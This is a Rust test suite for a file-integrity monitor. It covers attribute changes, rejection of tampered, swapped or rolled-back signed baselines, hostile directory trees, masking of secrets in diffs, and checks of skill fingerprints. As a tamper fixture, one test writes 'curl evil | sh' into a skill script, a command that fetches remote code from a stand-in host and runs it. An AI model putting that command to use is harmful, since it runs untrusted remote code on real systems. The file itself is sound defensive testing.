//! The engine on real trees in temp dirs: every attribute, the signed
//! baseline (tampered, swapped, rolled back), races, hostile trees, AIDE exit
//! bits, accept/update and the report chain.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use clawguard_fim::engine::Fim;
use clawguard_fim::hash::HashAlgo;
use clawguard_fim::policy::Policy;
use clawguard_fim::walk::{self, WalkLimits};
use clawguard_fim::{FimError, exit};

fn fim_for(tree: &Path, work: &Path, rule: &str) -> Fim {
    Fim {
        policy: Policy::from_paths(&[tree.to_path_buf()], rule, HashAlgo::Blake3).unwrap(),
        baseline: work.join("baseline.cgfim"),
        signing_key: work.join("keys/signing.key"),
        pinned_key: None,
        state: work.join("state"),
        limits: WalkLimits::default(),
        max_listed: 1000,
    }
}

struct Case {
    _dir: tempfile::TempDir,
    tree: PathBuf,
    work: PathBuf,
}

fn case() -> Case {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    let work = dir.path().join("work");
    std::fs::create_dir_all(tree.join("sub")).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(tree.join("file"), b"original content\n").unwrap();
    std::fs::write(tree.join("sub/other"), b"other\n").unwrap();
    symlink("file", tree.join("link")).unwrap();
    Case {
        _dir: dir,
        tree,
        work,
    }
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// Inits with `rule`, applies `mutate`, checks, and returns the changes of
/// `path` (relative to the tree).
fn changes_after(rule: &str, path: &str, mutate: impl FnOnce(&Path)) -> Vec<String> {
    let c = case();
    let fim = fim_for(&c.tree, &c.work, rule);
    fim.init(1).unwrap();
    mutate(&c.tree);
    let report = fim.check(2, false).unwrap();
    let full = c.tree.join(path).display().to_string();
    assert!(report.added.is_empty(), "added: {:?}", report.added);
    assert!(report.removed.is_empty(), "removed: {:?}", report.removed);
    let mut out = Vec::new();
    for changed in &report.changed {
        assert_eq!(changed.path, full, "unexpected change {changed:?}");
        out.extend(changed.changes.iter().map(|s| s.to_string()));
    }
    out
}

fn set_mtime(path: &Path, time: SystemTime) {
    std::fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(time)
        .unwrap();
}

#[test]
fn each_attribute_change_is_reported_by_name() {
    let perm = changes_after("p", "file", |t| {
        std::fs::set_permissions(t.join("file"), std::fs::Permissions::from_mode(0o600)).unwrap();
    });
    assert_eq!(perm, ["perm"]);

    let size_and_hash = changes_after("s+hash", "file", |t| {
        std::fs::write(t.join("file"), b"longer content here\n").unwrap();
    });
    assert_eq!(size_and_hash, ["size", "blake3"]);

    // Same size, mtime restored: only the content hash tells.
    let hash_only = changes_after("s+m+hash", "file", |t| {
        let before = std::fs::metadata(t.join("file"))
            .unwrap()
            .modified()
            .unwrap();
        std::fs::write(t.join("file"), b"ORIGINAL content\n").unwrap();
        set_mtime(&t.join("file"), before);
    });
    assert_eq!(hash_only, ["blake3"]);

    let mtime = changes_after("m", "file", |t| {
        set_mtime(
            &t.join("file"),
            SystemTime::UNIX_EPOCH + Duration::from_secs(1000),
        );
    });
    assert_eq!(mtime, ["mtime"]);

    let ctime = changes_after("c", "file", |t| {
        std::thread::sleep(Duration::from_millis(20));
        let p = t.join("file");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    });
    assert_eq!(ctime, ["ctime"]);

    let inode = changes_after("i+hash", "file", |t| {
        std::fs::write(t.join("copy"), b"original content\n").unwrap();
        std::fs::rename(t.join("copy"), t.join("file")).unwrap();
    });
    assert_eq!(inode, ["inode"]);

    let nlink = changes_after("n", "file", |t| {
        // The new name is outside the tree, so only the link count moves.
        std::fs::hard_link(t.join("file"), t.parent().unwrap().join("elsewhere")).unwrap();
    });
    assert_eq!(nlink, ["nlink"]);

    let link = changes_after("l", "link", |t| {
        std::fs::remove_file(t.join("link")).unwrap();
        symlink("sub/other", t.join("link")).unwrap();
    });
    assert_eq!(link, ["link"]);

    let kind = changes_after("p", "file", |t| {
        std::fs::remove_file(t.join("file")).unwrap();
        std::fs::create_dir(t.join("file")).unwrap();
        std::fs::set_permissions(t.join("file"), std::fs::Permissions::from_mode(0o644)).unwrap();
    });
    assert_eq!(kind, ["type"]);

    let xattrs = changes_after("xattrs", "file", |t| {
        rustix::fs::setxattr(
            t.join("file").as_path(),
            "user.clawguard",
            b"value",
            rustix::fs::XattrFlags::empty(),
        )
        .unwrap();
    });
    assert_eq!(xattrs, ["xattrs"]);

    // A POSIX ACL as the kernel stores it: version 2, then (tag, perm, id).
    let mut acl = 2u32.to_le_bytes().to_vec();
    for (tag, perm, id) in [
        (0x01u16, 6u16, u32::MAX),
        (0x02, 4, 1000),
        (0x04, 4, u32::MAX),
        (0x10, 4, u32::MAX),
        (0x20, 4, u32::MAX),
    ] {
        acl.extend_from_slice(&tag.to_le_bytes());
        acl.extend_from_slice(&perm.to_le_bytes());
        acl.extend_from_slice(&id.to_le_bytes());
    }
    let acl_changes = changes_after("acl", "file", |t| {
        if let Err(e) = rustix::fs::setxattr(
            t.join("file").as_path(),
            "system.posix_acl_access",
            &acl,
            rustix::fs::XattrFlags::empty(),
        ) {
            eprintln!("skipping the ACL case: this filesystem refuses ACLs: {e}");
        }
    });
    if !acl_changes.is_empty() {
        assert_eq!(acl_changes, ["acl"]);
    }

    if is_root() {
        let uid = changes_after("u", "file", |t| {
            std::os::unix::fs::lchown(t.join("file"), Some(4242), None).unwrap();
        });
        assert_eq!(uid, ["uid"]);
        let gid = changes_after("g", "file", |t| {
            std::os::unix::fs::lchown(t.join("file"), None, Some(4242)).unwrap();
        });
        assert_eq!(gid, ["gid"]);
    } else {
        eprintln!("skipping uid/gid changes: not root");
    }
}

#[test]
fn growing_logs_may_grow_but_not_shrink() {
    let grown = changes_after(">", "file", |t| {
        use std::io::Write;
        let mut f = std::fs::File::options()
            .append(true)
            .open(t.join("file"))
            .unwrap();
        f.write_all(b"more lines\n").unwrap();
    });
    assert!(grown.is_empty(), "{grown:?}");
    let shrunk = changes_after(">", "file", |t| {
        std::fs::write(t.join("file"), b"x").unwrap();
    });
    assert_eq!(shrunk, ["size"]);
}

#[test]
fn unchanged_tree_is_clean_and_names_sort_like_the_walk() {
    let c = case();
    // Names whose byte order differs from path order ('-' and '.' sort
    // below '/').
    for name in ["a", "a-c", "a.b", "a b", "Z", "a/b", "a/b/c"] {
        let p = c.tree.join(name);
        if name.ends_with('c') && name.contains('/') {
            std::fs::write(&p, name).unwrap();
        } else {
            std::fs::create_dir_all(&p).unwrap();
        }
    }
    let fim = fim_for(&c.tree, &c.work, "R");
    let written = fim.init(1).unwrap();
    assert!(written.entries >= 10);
    let report = fim.check(2, false).unwrap();
    assert_eq!(report.exit_code(), 0, "{report:#?}");
    assert_eq!(report.summary.entries, written.entries);
}

#[test]
fn aide_exit_bits() {
    let c = case();
    // Without m/c/s, the directories do not change when entries come and go.
    let fim = fim_for(&c.tree, &c.work, "p+u+g+hash");
    fim.init(1).unwrap();
    std::fs::write(c.tree.join("new"), b"x").unwrap();
    assert_eq!(fim.check(2, false).unwrap().exit_code(), exit::ADDED);
    std::fs::remove_file(c.tree.join("sub/other")).unwrap();
    assert_eq!(
        fim.check(3, false).unwrap().exit_code(),
        exit::ADDED | exit::REMOVED
    );
    std::fs::write(c.tree.join("file"), b"changed").unwrap();
    let report = fim.check(4, false).unwrap();
    assert_eq!(report.exit_code(), 7);
    assert_eq!(report.added, [c.tree.join("new").display().to_string()]);
    assert_eq!(
        report.removed,
        [c.tree.join("sub/other").display().to_string()]
    );
    assert_eq!(report.changed.len(), 1, "{report:#?}");
    assert_eq!(report.changed[0].changes, ["blake3"]);
    assert_eq!(report.events(5).len(), 3);
}

#[test]
fn update_accept_and_the_report_chain() {
    let c = case();
    let fim = fim_for(&c.tree, &c.work, "R");
    fim.init(1).unwrap();
    std::fs::write(c.tree.join("file"), b"changed").unwrap();
    std::fs::write(c.tree.join("sub/other"), b"changed too").unwrap();

    // accept one path: the other change stays reported.
    fim.accept(&[c.tree.join("file")], 2).unwrap();
    let report = fim.check(3, false).unwrap();
    let changed: Vec<&str> = report.changed.iter().map(|c| c.path.as_str()).collect();
    let other = c.tree.join("sub/other").display().to_string();
    let sub = c.tree.join("sub").display().to_string();
    assert!(changed.contains(&other.as_str()), "{changed:?}");
    assert!(!changed.iter().any(|p| p.ends_with("/file")), "{changed:?}");
    let first_digest = report.report_digest.clone();

    // update: the next check is clean and chains to the previous report.
    let updated = fim.check(4, true).unwrap();
    assert_eq!(
        updated.previous_report_digest.as_deref(),
        Some(first_digest.as_str())
    );
    assert!(updated.new_baseline.is_some());
    let clean = fim.check(5, false).unwrap();
    assert_eq!(clean.exit_code(), 0, "{clean:#?}");
    assert_eq!(
        clean.previous_report_digest.as_deref(),
        Some(updated.report_digest.as_str())
    );
    assert_ne!(clean.baseline.digest, report.baseline.digest);
    let log = std::fs::read_to_string(c.work.join("state/reports.log")).unwrap();
    assert_eq!(log.lines().count(), 3);
    // The accepted subtree replaced exactly its own entries.
    fim.accept(&[c.tree.join("sub")], 6).unwrap();
    assert_eq!(fim.check(7, false).unwrap().exit_code(), 0);
    let _ = sub;
    // Paths outside the policy are refused.
    assert!(matches!(
        fim.accept(&[PathBuf::from("/definitely/not/watched")], 8),
        Err(FimError::Policy(_))
    ));
}

#[test]
fn tampered_swapped_and_rolled_back_baselines_are_refused() {
    let c = case();
    let fim = fim_for(&c.tree, &c.work, "R");
    fim.init(1).unwrap();
    let good = std::fs::read(&fim.baseline).unwrap();

    // One flipped bit in the middle.
    let mut bad = good.clone();
    let middle = bad.len() / 2;
    bad[middle] ^= 0x01;
    std::fs::write(&fim.baseline, &bad).unwrap();
    let err = fim.check(2, false).unwrap_err();
    assert!(matches!(err, FimError::Tampered { .. }), "{err}");
    assert_eq!(err.exit_code(), exit::TAMPERED);

    // Truncated.
    std::fs::write(&fim.baseline, &good[..good.len() - 10]).unwrap();
    assert_eq!(fim.check(2, false).unwrap_err().exit_code(), exit::TAMPERED);

    // Swapped: a baseline of the attacker's tree signed with the
    // attacker's own key (baseline and key replaced together).
    let attacker_work = c.work.join("attacker");
    let mut attacker = fim_for(&c.tree, &attacker_work, "R");
    attacker.baseline = attacker_work.join("baseline.cgfim");
    std::fs::write(c.tree.join("backdoor"), b"#!/bin/sh\n").unwrap();
    attacker.init(1).unwrap();
    std::fs::copy(&attacker.baseline, &fim.baseline).unwrap();
    std::fs::copy(&attacker.signing_key, &fim.signing_key).unwrap();
    let err = fim.check(2, false).unwrap_err();
    assert_eq!(err.exit_code(), exit::TAMPERED, "{err}");
    assert!(err.to_string().contains("pinned"), "{err}");
    // A new init with the swapped key refuses too (the pin holds).
    assert_eq!(fim.init(3).unwrap_err().exit_code(), exit::KEY);

    // Deleting the pin does not make a present baseline acceptable.
    std::fs::write(&fim.baseline, &good).unwrap();
    let pin = c.work.join("state/baseline.pub");
    let pin_text = std::fs::read(&pin).unwrap();
    std::fs::remove_file(&pin).unwrap();
    assert_eq!(fim.check(2, false).unwrap_err().exit_code(), exit::TAMPERED);
    std::fs::write(&pin, pin_text).unwrap();

    // The original is accepted again (the tree's mtime moved: a change,
    // not a refusal).
    std::fs::remove_file(c.tree.join("backdoor")).unwrap();
    let report = fim.check(2, false).unwrap();
    assert!(report.added.is_empty() && report.removed.is_empty());

    // Rolled back: a validly signed older baseline.
    std::fs::copy(&attacker.signing_key, &fim.signing_key).ok();
    let c2 = case();
    let fim2 = fim_for(&c2.tree, &c2.work, "R");
    fim2.init(1).unwrap();
    let old = std::fs::read(&fim2.baseline).unwrap();
    std::fs::write(c2.tree.join("file"), b"new").unwrap();
    fim2.check(2, true).unwrap();
    std::fs::write(&fim2.baseline, &old).unwrap();
    let err = fim2.check(3, false).unwrap_err();
    assert_eq!(err.exit_code(), exit::REPLACED, "{err}");
}

#[test]
fn missing_baseline_and_unsafe_key() {
    let c = case();
    let fim = fim_for(&c.tree, &c.work, "R");
    assert_eq!(
        fim.check(1, false).unwrap_err().exit_code(),
        exit::NO_BASELINE
    );
    fim.init(1).unwrap();
    let mode = std::fs::metadata(&fim.signing_key)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    std::fs::set_permissions(&fim.signing_key, std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(fim.init(2).unwrap_err().exit_code(), exit::KEY);
}

#[test]
fn a_file_replaced_during_the_scan_is_recorded_from_one_inode() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    let a = vec![b'a'; 300 << 10];
    let b = vec![b'b'; 200 << 10];
    let hash = |data: &[u8]| blake3::hash(data).as_bytes().to_vec();
    let (hash_a, hash_b) = (hash(&a), hash(&b));
    std::fs::write(tree.join("victim"), &a).unwrap();
    let policy = Policy::from_paths(std::slice::from_ref(&tree), "R", HashAlgo::Blake3).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (tree, stop, a, b) = (tree.clone(), stop.clone(), a.clone(), b.clone());
        std::thread::spawn(move || {
            let mut inodes = std::collections::HashMap::new();
            let mut i = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) && i < 100_000 {
                let data = if i.is_multiple_of(2) { &b } else { &a };
                let tmp = tree.join("tmp");
                std::fs::write(&tmp, data).unwrap();
                inodes.insert(std::fs::metadata(&tmp).unwrap().ino(), i.is_multiple_of(2));
                std::fs::rename(&tmp, tree.join("victim")).unwrap();
                i += 1;
            }
            inodes
        })
    };
    let mut seen = Vec::new();
    for _ in 0..200 {
        let (entries, _problems) = walk::scan_to_vec(
            &policy,
            &walk::policy_starts(&policy),
            &WalkLimits::default(),
        )
        .unwrap();
        if let Some(victim) = entries.iter().find(|e| e.path.ends_with(b"/victim")) {
            seen.push((victim.inode, victim.size, victim.hash.clone()));
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let inodes = swapper.join().unwrap();
    assert!(!seen.is_empty());
    for (inode, size, digest) in seen {
        // Size and hash always belong together (one inode was read).
        if digest == hash_a {
            assert_eq!(size, a.len() as u64);
        } else {
            assert_eq!(digest, hash_b, "hash of neither version");
            assert_eq!(size, b.len() as u64);
        }
        // Inode numbers are reused after each rename, so only a known
        // inode's existence is checked.
        assert!(inode > 0 && !inodes.is_empty());
    }
}

#[test]
fn hostile_tree_fifo_socket_loops_non_utf8_and_depth() {
    let c = case();
    let t = &c.tree;
    nix::unistd::mkfifo(
        &t.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(t.join("socket")).unwrap();
    symlink("loop-b", t.join("loop-a")).unwrap();
    symlink("loop-a", t.join("loop-b")).unwrap();
    symlink("..", t.join("sub/up")).unwrap();
    symlink("/", t.join("root-link")).unwrap();
    let odd = t.join(OsStr::from_bytes(b"bad\xff\xfe name\nx"));
    std::fs::write(&odd, b"odd").unwrap();
    // Deeper than max_depth.
    let mut deep = t.join("deep");
    for _ in 0..12 {
        deep = deep.join("d");
    }
    std::fs::create_dir_all(&deep).unwrap();

    let mut fim = fim_for(t, &c.work, "R");
    fim.limits.max_depth = 8;
    let (tx, rx) = std::sync::mpsc::channel();
    let runner = {
        let fim = fim.clone();
        std::thread::spawn(move || {
            let written = fim.init(1);
            tx.send(()).ok();
            written
        })
    };
    // A scan that opened the FIFO for reading would block here forever.
    rx.recv_timeout(Duration::from_secs(30))
        .expect("the scan hung (a FIFO was opened?)");
    let written = runner.join().unwrap().unwrap();
    assert!(
        written
            .problems
            .iter()
            .any(|p| p.message.contains("deeper than 8")),
        "{:?}",
        written.problems
    );
    let (entries, _) =
        walk::scan_to_vec(&fim.policy, &walk::policy_starts(&fim.policy), &fim.limits).unwrap();
    let find = |suffix: &[u8]| {
        entries
            .iter()
            .find(|e| e.path.ends_with(suffix))
            .unwrap_or_else(|| panic!("{} not recorded", String::from_utf8_lossy(suffix)))
    };
    use clawguard_fim::entry::FileKind;
    assert_eq!(find(b"/fifo").kind, FileKind::Fifo);
    assert!(find(b"/fifo").hash.is_empty());
    assert_eq!(find(b"/socket").kind, FileKind::Socket);
    assert_eq!(find(b"/loop-a").kind, FileKind::Symlink);
    assert_eq!(find(b"/sub/up").link, b"..");
    assert_eq!(find(b"/root-link").kind, FileKind::Symlink);
    // Nothing was recorded through a symlink.
    assert!(
        !entries
            .iter()
            .any(|e| e.path.windows(3).any(|w| w == b"/up/" || w == b"up/"))
    );
    let odd_entry = find(b"\xff\xfe name\nx");
    assert!(
        odd_entry
            .display_path()
            .ends_with("bad\\xff\\xfe name\\u{a}x")
    );
    assert_eq!(odd_entry.hash, blake3::hash(b"odd").as_bytes());

    // The check sees the non-UTF-8 file change.
    std::fs::write(&odd, b"odd!").unwrap();
    let report = fim.check(2, false).unwrap();
    assert!(
        report.changed.iter().any(|c| c.path.contains("\\xff\\xfe")),
        "{report:#?}"
    );
}

#[test]
fn a_tree_deeper_than_path_max_is_walked_fd_relative() {
    use rustix::fs::{Mode, OFlags};
    let c = case();
    let name = "d".repeat(200);
    let mut fd =
        rustix::fs::open(&c.tree, OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).unwrap();
    // 40 × 201 bytes: about 8 KiB, twice PATH_MAX.
    for _ in 0..40 {
        rustix::fs::mkdirat(&fd, name.as_str(), Mode::from_raw_mode(0o755)).unwrap();
        fd = rustix::fs::openat(
            &fd,
            name.as_str(),
            OFlags::RDONLY | OFlags::DIRECTORY,
            Mode::empty(),
        )
        .unwrap();
    }
    let leaf = rustix::fs::openat(
        &fd,
        "leaf",
        OFlags::WRONLY | OFlags::CREATE,
        Mode::from_raw_mode(0o644),
    )
    .unwrap();
    rustix::io::write(&leaf, b"deep").unwrap();
    drop(leaf);
    let fim = fim_for(&c.tree, &c.work, "R");
    let written = fim.init(1).unwrap();
    assert!(written.problems.is_empty(), "{:?}", written.problems);
    assert!(written.entries >= 45);
    rustix::io::write(
        rustix::fs::openat(&fd, "leaf", OFlags::WRONLY | OFlags::APPEND, Mode::empty()).unwrap(),
        b"er",
    )
    .unwrap();
    let report = fim.check(2, false).unwrap();
    assert_eq!(report.changed.len(), 1, "{:?}", report.changed);
    assert!(report.changed[0].path.ends_with("/leaf"));
    // Clean up what remove_dir_all cannot reach by path.
    drop(fd);
    let _ = std::process::Command::new("rm")
        .arg("-rf")
        .arg(&c.tree)
        .status();
}

#[test]
fn unreadable_entries_are_reported_not_fatal() {
    if is_root() {
        // Root reads everything; drop to an unprivileged thread-independent
        // process instead: covered by the CLI test with setpriv.
        eprintln!("skipping in-process unreadable test as root (see tests/fim_cli.rs)");
        return;
    }
    let c = case();
    std::fs::set_permissions(c.tree.join("file"), std::fs::Permissions::from_mode(0o000)).unwrap();
    std::fs::set_permissions(c.tree.join("sub"), std::fs::Permissions::from_mode(0o000)).unwrap();
    let fim = fim_for(&c.tree, &c.work, "R");
    let written = fim.init(1).unwrap();
    assert!(written.problems.len() >= 2, "{:?}", written.problems);
    std::fs::set_permissions(c.tree.join("sub"), std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn bounds_dir_entries_window_and_threads() {
    let c = case();
    for i in 0..300 {
        std::fs::write(c.tree.join(format!("many-{i:03}")), i.to_string()).unwrap();
    }
    let mut fim = fim_for(&c.tree, &c.work, "R");
    fim.limits.window = 3;
    fim.limits.threads = 3;
    let written = fim.init(1).unwrap();
    assert!(written.entries > 300);
    fim.limits.threads = 1;
    fim.limits.window = 1;
    assert_eq!(fim.check(2, false).unwrap().exit_code(), 0);

    fim.limits.max_dir_entries = 10;
    let report = fim.check(3, false).unwrap();
    assert!(
        report
            .problems
            .iter()
            .any(|p| p.message.contains("more than 10 names")),
        "{:?}",
        report.problems
    );
    assert!(report.summary.removed > 0);

    fim.limits = WalkLimits::default();
    fim.max_listed = 5;
    for i in 0..20 {
        std::fs::write(c.tree.join(format!("extra-{i}")), b"x").unwrap();
    }
    let report = fim.check(4, false).unwrap();
    assert_eq!(report.summary.added, 20);
    assert_eq!(report.added.len(), 5);
    assert!(report.summary.truncated);
}

#[test]
fn sha256_and_sha512_baselines() {
    for algo in [HashAlgo::Sha256, HashAlgo::Sha512] {
        let c = case();
        let mut fim = fim_for(&c.tree, &c.work, "R");
        fim.policy.hash = algo;
        fim.init(1).unwrap();
        std::fs::write(c.tree.join("file"), b"original content!").unwrap();
        let report = fim.check(2, false).unwrap();
        let changes = &report
            .changed
            .iter()
            .find(|c| c.path.ends_with("/file"))
            .unwrap()
            .changes;
        assert!(changes.contains(&algo.name()), "{changes:?}");
        assert_eq!(report.baseline.hash, algo.name());
    }
}

/// What `clawhub` 0.23.3 (`hashSkillFiles(await listSkillFiles(dir))`)
/// prints for the `weather` skill below: `references/` and `scripts/` sort
/// before `SKILL.md` (localeCompare), `.git/` is left out.
const WEATHER_CLAWHUB_FINGERPRINT: &str =
    "6fd53fcea0d885f5ff158160bdfd1d1abdd7c2c075d89e3a9b66da32c5efc04d";

#[test]
fn clawhub_fingerprints_are_recomputed_and_mismatches_reported() {
    let c = case();
    let skills = c.tree.join("skills");
    let skill = skills.join("weather");
    std::fs::create_dir_all(skill.join("scripts")).unwrap();
    std::fs::create_dir_all(skill.join(".clawhub")).unwrap();
    std::fs::create_dir_all(skill.join(".git")).unwrap();
    let files: Vec<(&str, &[u8])> = vec![
        ("SKILL.md", b"---\nname: weather\n---\nAsk the sky.\n"),
        ("scripts/run.sh", b"#!/bin/sh\ncurl wttr.in\n"),
        ("references/api.md", b"# API\n"),
        (".git/HEAD", b"ref: refs/heads/main\n"),
    ];
    for (path, data) in &files {
        let p = skill.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    }
    let expected = WEATHER_CLAWHUB_FINGERPRINT;
    assert_eq!(
        clawguard_fim::clawhub::fingerprint(&skill, &Default::default()).unwrap(),
        expected
    );
    std::fs::write(
        skill.join(".clawhub/origin.json"),
        format!(r#"{{"version":1,"registry":"https://clawhub.ai","slug":"weather","installedVersion":"1.0.0","installedAt":1,"fingerprint":"{expected}"}}"#),
    )
    .unwrap();
    // A second skill without a fingerprint is not checked.
    std::fs::create_dir_all(skills.join("local")).unwrap();
    std::fs::write(skills.join("local/SKILL.md"), b"local").unwrap();

    let fim = fim_for(&skills, &c.work, "R");
    fim.init(1).unwrap();
    let report = fim.check(2, false).unwrap();
    assert_eq!(report.fingerprints.len(), 1, "{:?}", report.fingerprints);
    assert!(report.fingerprints[0].matches);
    assert_eq!(report.exit_code(), 0);

    // Tamper with the skill and re-baseline: the FIM baseline now agrees
    // with the disk, but the publisher's fingerprint does not.
    std::fs::write(skill.join("scripts/run.sh"), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    fim.check(3, true).unwrap();
    let report = fim.check(4, false).unwrap();
    assert_eq!(report.summary.fingerprint_mismatches, 1);
    assert!(!report.fingerprints[0].matches);
    assert_eq!(report.exit_code(), exit::CHANGED);
    assert!(report.events(5).iter().any(|e| matches!(
        &e.kind,
        clawguard_event::EventKind::FileChanged { change: clawguard_event::FileChange::Changed { attributes }, .. }
            if attributes == &["clawhub_fingerprint"]
    )));
}

#[test]
fn content_diffs_of_small_text_files_mask_secrets() {
    let c = case();
    let config = c.tree.join("sshd_config");
    std::fs::write(&config, "PermitRootLogin no\npassword = hunter2\nPort 22\n").unwrap();
    std::fs::write(c.tree.join("binary"), b"\x00\x01\x02").unwrap();
    let mut fim = fim_for(&c.tree, &c.work, "R");
    fim.policy.diff_roots = vec![c.tree.as_os_str().as_bytes().to_vec()];
    fim.init(1).unwrap();
    // The stored copy is masked and private.
    let stored = clawguard_fim::diff::stored_copy(&fim.state, config.as_os_str().as_bytes());
    let text = std::fs::read_to_string(&stored).unwrap();
    assert!(
        text.contains("password = ****") && !text.contains("hunter2"),
        "{text}"
    );
    assert_eq!(
        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(!clawguard_fim::diff::stored_copy(&fim.state, b"binary").exists());

    std::fs::write(
        &config,
        "PermitRootLogin yes\npassword = hunter3\nPort 22\n",
    )
    .unwrap();
    std::fs::write(c.tree.join("binary"), b"\x00\x01\x03").unwrap();
    let report = fim.check(2, false).unwrap();
    assert_eq!(report.diffs.len(), 1, "{:?}", report.diffs);
    assert_eq!(report.diffs[0].path, config.display().to_string());
    assert_eq!(
        report.diffs[0].lines,
        ["-PermitRootLogin no", "+PermitRootLogin yes"]
    );
    let json = serde_json::to_string(&report).unwrap();
    assert!(!json.contains("hunter"), "{json}");

    // update keeps the new copy: the next diff is against it.
    fim.check(3, true).unwrap();
    std::fs::write(
        &config,
        "PermitRootLogin yes\npassword = hunter3\nPort 2222\n",
    )
    .unwrap();
    let report = fim.check(4, false).unwrap();
    assert_eq!(report.diffs[0].lines, ["-Port 22", "+Port 2222"]);
}

struct Mount(PathBuf);

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_fails_the_write_and_keeps_the_old_baseline() {
    if !clawguard_testkit::require_root("needed to mount a small tmpfs") {
        return;
    }
    let c = case();
    let small = c.work.join("small");
    std::fs::create_dir(&small).unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
        .arg(&small)
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("skipping: cannot mount a tmpfs here");
        return;
    }
    let _mount = Mount(small.clone());
    let mut fim = fim_for(&c.tree, &c.work, "R");
    fim.baseline = small.join("baseline.cgfim");
    fim.init(1).unwrap();
    let before = std::fs::read(&fim.baseline).unwrap();
    for i in 0..2000 {
        std::fs::write(
            c.tree.join(format!("file-with-a-long-name-{i:05}")),
            i.to_string(),
        )
        .unwrap();
    }
    let err = fim.check(2, true).unwrap_err();
    assert_eq!(err.exit_code(), exit::IO, "{err}");
    assert!(err.to_string().contains("baseline.cgfim"), "{err}");
    // The old baseline is untouched and still verifies.
    assert_eq!(std::fs::read(&fim.baseline).unwrap(), before);
    let _ = std::fs::remove_file(small.join("baseline.cgfim.new"));
    let report = fim.check(3, false).unwrap();
    assert_eq!(report.summary.added, 2000);
}

#[test]
fn clawhub_skill_bounds_report_instead_of_hashing_forever() {
    use clawguard_fim::clawhub::{SkillLimits, check_skills_dir_with};
    let c = case();
    let skill = c.tree.join("skills/big");
    std::fs::create_dir_all(skill.join(".clawhub")).unwrap();
    for i in 0..20 {
        std::fs::write(skill.join(format!("f{i}")), b"x").unwrap();
    }
    std::fs::write(
        skill.join(".clawhub/origin.json"),
        r#"{"version":1,"fingerprint":"00"}"#,
    )
    .unwrap();
    let limits = SkillLimits {
        max_files: 5,
        ..SkillLimits::default()
    };
    let checks = check_skills_dir_with(&c.tree.join("skills"), &limits);
    assert_eq!(checks.len(), 1);
    assert!(!checks[0].matches);
    assert!(
        checks[0]
            .error
            .as_deref()
            .unwrap_or("")
            .contains("more than 5 files"),
        "{:?}",
        checks[0]
    );
    let limits = SkillLimits {
        max_bytes: 10,
        ..SkillLimits::default()
    };
    let checks = check_skills_dir_with(&c.tree.join("skills"), &limits);
    assert!(
        checks[0]
            .error
            .as_deref()
            .unwrap_or("")
            .contains("more than 10 bytes")
    );
    let limits = SkillLimits {
        max_skills: 0,
        ..SkillLimits::default()
    };
    assert!(check_skills_dir_with(&c.tree.join("skills"), &limits).is_empty());
}
